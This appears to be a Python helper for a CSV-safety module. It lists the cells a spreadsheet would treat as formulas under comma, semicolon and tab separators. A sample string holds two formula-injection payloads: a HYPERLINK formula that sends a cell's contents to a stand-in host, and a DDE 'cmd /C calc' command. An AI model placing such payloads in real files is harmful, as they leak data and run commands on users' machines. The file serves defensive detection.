"""What a spreadsheet would run in a CSV: the cells it makes of a file, comment lines included, that begin with a
formula character, read as comma-, semicolon- and tab-separated (spreadsheets pick the separator by locale)."""

from __future__ import annotations

import csv
import io

from core.csv_safe import FORMULA_STARTS, is_plain_number

# the link text: a review of it exported the formula cells '=HYPERLINK(...)' and '@SUM(1)*cmd|...'
HOSTILE = 'Nice film,=HYPERLINK("http://x/?"&A1,"c"),@SUM(1)*cmd|\' /C calc\'!A0'


def formula_cells(text: str) -> list[tuple[str, str]]:
    """(separator, cell) for every cell that a spreadsheet would take as a formula. A cell that is a plain number
    up to its first comma (a row of numbers read with another separator) is a number, not a formula."""
    found = []
    for separator in (",", ";", "\t"):
        for row in csv.reader(io.StringIO(text, newline=""), delimiter=separator):
            found += [
                (separator, cell)
                for cell in row
                if cell[:1] in FORMULA_STARTS and not is_plain_number(cell.split(",")[0])
            ]
    return found
